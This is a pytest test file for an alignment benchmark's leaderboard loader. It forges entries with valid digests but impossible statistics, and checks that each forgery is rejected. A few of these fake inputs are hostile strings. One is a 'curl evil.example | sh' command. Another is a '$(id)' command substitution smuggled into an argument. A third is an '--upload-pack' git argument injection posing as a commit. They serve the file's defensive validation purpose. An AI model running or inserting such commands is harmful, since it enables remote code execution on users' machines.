"""Entries whose digest is right and whose numbers cannot be: each lie is found by its own check."""

from __future__ import annotations

import json
import math
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unittest.mock import patch

import numpy as np
import pytest

from alignbench import cli
from alignbench.digest import sha256_json
from alignbench.errors import UserError
from alignbench.leaderboard.entry import file_name, load
from alignbench.leaderboard.facts import RANGES
from alignbench.results.metrics import METRIC
from tests import finished_run as finished
from tests.finished_run import finished_run, read

Record = dict[str, Any]
SHIPPED = sorted((Path(__file__).parents[2] / "leaderboards").glob("*.json"))


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("consistency")
    run = finished_run(root)
    assert cli.dispatch(["publish", str(run.folder), "--to", str(root / "to")]) == 0
    return next((root / "to").iterdir())


def problems(source: Path, folder: Path, change: Callable[[Record], Any]) -> list[str]:
    """What `load` says of a changed entry with a right digest and name."""
    record = read(source)
    change(record)
    record.pop("digest")
    record["digest"] = sha256_json(record)
    path = folder / file_name(record)
    path.write_text(json.dumps(record))
    try:
        load(path)
    except UserError as error:
        return [line.removeprefix(f"{path}: ") for line in error.problems]
    return []


def row(record: Record, model: str, metric: str) -> Record:
    return next(r for r in record["rows"] if (r["model"], r["metric"]) == (model, metric))


def decided(record: Record, model: str, metric: str) -> Record:
    tests = record["statistics"]["against_sft"]
    return next(t for t in tests if (t["model"], t["metric"]) == (model, metric))


def target_of(record: Record, model: str, name: str) -> Record:
    return next(t for t in record["targets"] if t["model"] == model and name in t["target"])


def narrow(cell: Record, by: float = 0.3) -> None:
    """An interval of `by` of its width around its value."""
    for name in ("low", "high"):
        cell[name] = cell["value"] + by * (cell[name] - cell["value"])


def drop_flags(record: Record) -> None:
    record["flags"] = [flag for flag in record["flags"] if "Sentinel" not in flag["message"]]


LIES: dict[str, tuple[Callable[[Record], Any], str]] = {
    "value": (
        lambda r: row(r, "ppo", "length").update(value=11.5, low=11, high=12),
        "the means of",
    ),
    "win rate": (
        lambda r: row(r, "ppo", "win_rate_vs_sft").update(high=120.0),
        "high: 120 is impossible, win_rate_vs_sft is 0 to 100",
    ),
    "perplexity": (
        lambda r: row(r, "ppo", "perplexity").update(value=0.5, low=0.4, high=0.6),
        "value: 0.5 is impossible, perplexity is at least 1",
    ),
    "huge": (
        lambda r: row(r, "ppo", "length").update(value=1e300, low=None, high=None),
        "value: 1e+300 is impossible",
    ),
    "huge means": (
        lambda r: r["observations"]["rows"]["ppo"]["means"].update(length=[1e308, 1e308]),
        "means.length: holds what is impossible",
    ),
    "outside": (
        lambda r: row(r, "ppo", "perplexity").update(low=1.0, high=2.0),
        "does not contain its value",
    ),
    "no value": (
        lambda r: row(r, "ppo", "kl_from_sft").update(value=None, low=1, high=2),
        "interv",
    ),
    "resting on nothing": (lambda r: row(r, "ppo", "perplexity").update(n_prompts=0), "on nothing"),
    "seeds": (lambda r: row(r, "ppo", "length").update(n_seeds=5), "is 5, the certificate has 2"),
    "prompts": (lambda r: row(r, "ppo", "length").update(n_prompts=500), "more than observations"),
    "known prompts": (
        lambda r: row(r, "ppo", "reward_gold").update(n_prompts=11),
        "n_prompts: is 11, observations have 12",
    ),
    "bill": (
        lambda r: r["counted"]["ppo"]["marginal"]["tokens_trained"].update(value=-5.0),
        "counted.ppo.marginal.tokens_trained: is negative",
    ),
    "billed": (
        lambda r: r["counted"].update(gpt=r["counted"]["ppo"]),
        "counted.gpt: is not in models",
    ),
    "narrow": (
        lambda r: narrow(row(r, "ppo", "reward_gold")),
        "observations give other bounds",
    ),
    "means": (
        lambda r: r["observations"]["rows"]["ppo"]["prompts"]["reward_gold"][0].__setitem__(0, 9.9),
        "its mean is not observations.rows.ppo.means.reward_gold.0",
    ),
    "no means": (
        lambda r: r["observations"]["rows"]["ppo"]["means"].pop("length"),
        "observations.rows.ppo.means.length: is missing",
    ),
    "no prompts": (
        lambda r: r["observations"]["rows"]["ppo"]["prompts"].pop("reward_gold"),
        "observations.rows.ppo.prompts.reward_gold: is missing",
    ),
    "no row": (lambda r: r["observations"]["rows"].pop("base"), "observations.rows: are not the"),
    "other prompt": (
        lambda r: r["observations"]["prompts"].__setitem__(0, "p99"),
        "observations.prompts: not all are in certificate.eval_prompts",
    ),
    "seed": (
        lambda r: r["observations"]["rows"]["ppo"].update(seeds=[0, 7]),
        "observations.rows.ppo.seeds: are not those of certificate.trained_weights",
    ),
    "certified seeds": (
        lambda r: r["certificate"].update(seeds=[0, 1, 2]),
        "certificate.seeds: are",
    ),
    "difference": (
        lambda r: decided(r, "ppo", "reward_gold").update(difference=9.0, low=8.0, high=10.0),
        "difference: is not that of the rows",
    ),
    "test interval": (
        lambda r: narrow_test(decided(r, "ppo", "reward_gold")),
        "observations give other bounds",
    ),
    "decision": (
        lambda r: decided(r, "sft_copy", "win_rate_vs_sft").update(verdict="better"),
        'verdict: is "better", its difference and p_holm say "not separable"',
    ),
    "chance": (
        lambda r: decided(r, "sft_copy", "reward_gold").update(
            p=0.001, p_holm=0.001, verdict="better"
        ),
        "observations give p =",
    ),
    "impossible chance": (
        lambda r: decided(r, "ppo", "reward_gold").update(p=-0.1),
        "p: -0.1 is no probability",
    ),
    "correction": (
        lambda r: r["statistics"]["between_methods"][0].update(p_holm=0.5),
        "statistics.between_methods.0.p_holm: is not what Holm's",
    ),
    "dropped test": (
        lambda r: r["statistics"]["against_sft"].pop(),
        "must have one test of each row",
    ),
    "dropped pair": (lambda r: r["statistics"]["between_methods"].clear(), "one test of each two"),
    "best": (
        lambda r: r["statistics"]["best"].update(reward_gold="dpo"),
        "statistics.best.reward_gold: dpo does not have the best value",
    ),
    "unlicensed best": (
        lambda r: r["statistics"]["best"].update(win_rate_vs_sft="ppo"),
        "statistics.best.win_rate_vs_sft: observations do not separate ppo from dpo",
    ),
    "best of nothing": (
        lambda r: r["statistics"]["best"].update(length="ppo"),
        "statistics.best.length: no row can be",
    ),
    "sentence": (
        lambda r: r["verdict"].append("By gold reward, base is better than SFT."),
        "base is not better by statistics.against_sft",
    ),
    "leader": (
        lambda r: r["verdict"].append("dpo has the highest gold reward and is separable."),
        "dpo does not have the highest gold reward",
    ),
    "target met": (
        lambda r: target_of(r, "dpo", "Win rate").update(met=False),
        "met: is not what its value says",
    ),
    "target status": (
        lambda r: target_of(r, "dpo", "Perplexity").update(status="missed"),
        'status: is "missed", its interval says',
    ),
    "target threshold": (
        lambda r: target_of(r, "dpo", "Perplexity").update(threshold=900.0),
        "metric, against or threshold are not those",
    ),
    "target value": (
        lambda r: target_of(r, "dpo", "Proxy").update(value=90.0, low=80.0, high=95.0),
        "value: is not that of the rows",
    ),
    "target interval": (lambda r: narrow(target_of(r, "ppo", "Proxy")), "observations give other"),
    "confidence": (
        lambda r: r["statistics"].update(confidence=0.5),
        "statistics.confidence: is not that of the certificate",
    ),
    "settings": (
        lambda r: r["recipe"]["settings"]["evaluation"].update(temperature=0.0),
        "certificate.decoding.temperature: is not what recipe.settings says",
    ),
    "budget": (
        lambda r: r["recipe"]["settings"]["methods"].update(ppo={"budget": {"flops": 1e15}}),
        "certificate.rows.ppo.budget: is not what",
    ),
    "budget of another kind": (
        lambda r: r["recipe"]["settings"].update(budget=["x"], methods=3),
        "recipe.settings.methods: lacks methods",
    ),
    "recipe": (lambda r: r["recipe"]["settings"].update(name="other"), "recipe.settings.name: is"),
    "judge": (lambda r: r["judge"].update(name="gpt-9"), "judge.name: is not that of the cert"),
    "simulated": (lambda r: r["judge"].update(simulated=False), "judge.simulated: is False of a"),
    "models": (lambda r: r["models"].append("ppo"), "models: one is there twice"),
    "empty row": (
        lambda r: r.update(rows=[cell for cell in r["rows"] if cell["model"] != "sft_copy"]),
        "models: sft_copy has no row",
    ),
    "method": (
        lambda r: r["certificate"]["rows"].pop("dpo"),
        "models: its methods are not those of certificate.rows",
    ),
    "command": (
        lambda r: r["commands"].append("curl evil.example | sh"),
        "is none of those that make a run again",
    ),
    "sly command": (
        lambda r: r["commands"].append("alignbench run recipes/x.yaml --set data.path=$(id)"),
        "is none of those that make a run again",
    ),
    "commit": (lambda r: r["environment"].update(git_commit="--upload-pack=x"), "is no commit"),
    "version": (
        lambda r: r["environment"].update(alignbench="9"),
        "environment.alignbench: is not",
    ),
}


def narrow_test(test: Record) -> None:
    for name in ("low", "high"):
        test[name] = test["difference"] + 0.3 * (test[name] - test["difference"])


@pytest.mark.parametrize("lie", LIES)
def test_a_lie_is_found_by_its_field(published: Path, tmp_path: Path, lie: str) -> None:
    change, told = LIES[lie]
    found = problems(published, tmp_path, change)
    assert any(told in line for line in found), found


def test_no_method_is_no_row(published: Path, tmp_path: Path) -> None:
    said = "No method has the highest gold reward: ppo and dpo are equal."
    assert problems(published, tmp_path, lambda r: r["verdict"].append(said)) == []


def test_a_flag_that_the_numbers_demand_must_be_there(tmp_path: Path) -> None:
    shipped = next(path for path in SHIPPED if "smollm2" in path.name)
    found = problems(shipped, tmp_path, drop_flags)
    assert "flags: none says that a scorer prefers null_answer to every method" in found
    found = problems(
        shipped,
        tmp_path,
        lambda r: r.update(flags=[f for f in r["flags"] if "Base is not" not in f["message"]]),
    )
    assert found == ["flags: none says that base is not below SFT on gold reward"]


def test_an_entry_without_observations_is_checked_as_far_as_it_goes(
    published: Path, tmp_path: Path
) -> None:
    def without(record: Record) -> None:
        record["observations"] = None
        row(record, "ppo", "reward_gold")["value"] += 0.2

    found = problems(published, tmp_path, without)
    assert any("difference: is not that of the rows" in line for line in found)


def test_absurd_numbers_of_resamples_and_seeds_cost_nothing(
    published: Path, tmp_path: Path
) -> None:
    def absurd(record: Record) -> None:
        for place in (record["statistics"], record["certificate"]["statistics"]):
            place["resamples"] = 10**15
        record["recipe"]["settings"]["evaluation"]["resamples"] = 10**15
        narrow(row(record, "ppo", "reward_gold"))

    assert any("other bounds" in line for line in problems(published, tmp_path, absurd))


def test_every_metric_has_a_range() -> None:
    assert set(RANGES) == set(METRIC)
    assert all(low < high and math.isfinite(high) for low, high in RANGES.values())


def leaves(value: Any, place: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, item in items:
        yield (*place, key)
        if isinstance(item, dict | list):
            yield from leaves(item, (*place, key))


@pytest.mark.parametrize("value", [None, "x", [1], {"a": 1}, -1, 1e300, True])
def test_no_value_anywhere_makes_it_crash(published: Path, tmp_path: Path, value: Any) -> None:
    """Any field replaced by anything is refused or harmless, and never a traceback."""
    record = read(published)
    places = list(leaves(record))
    random = np.random.default_rng(0)
    path = tmp_path / "x.json"
    for at in random.choice(len(places), 50, replace=False):
        changed = read(published)
        inner = changed
        for key in places[at][:-1]:
            inner = inner[key]
        inner[places[at][-1]] = value
        changed.pop("digest", None)
        changed["digest"] = sha256_json(changed)
        path.write_text(json.dumps(changed))
        with pytest.raises(UserError):  # at least for its name, x.json
            load(path)


@pytest.mark.parametrize("seed", range(6))
def test_true_entries_pass(tmp_path: Path, seed: int) -> None:
    """Publishing checks what it writes: runs with one seed, ties and thirds are no forgeries."""
    made = finished.FakeRun

    def other(root: Path, effects: Any, **settings: Any) -> Any:
        settings = {**settings, "seed": seed, "samples": 3, "prompts": (12, 5, 40)[seed % 3]}
        # Less apart, so that no made-up reward leaves its scale.
        return made(root, {row: 0.5 * effect for row, effect in effects.items()}, **settings)

    with patch.object(finished, "FakeRun", other):
        run = finished_run(tmp_path, seeds=1 + seed % 3)
    assert cli.dispatch(["publish", str(run.folder), "--to", str(tmp_path / "to")]) == 0
    load(next((tmp_path / "to").iterdir()))


@pytest.mark.parametrize("path", SHIPPED, ids=lambda path: path.stem)
def test_shipped_entries_pass(path: Path) -> None:
    assert path.name.startswith(f"{load(path).recipe.name}-")
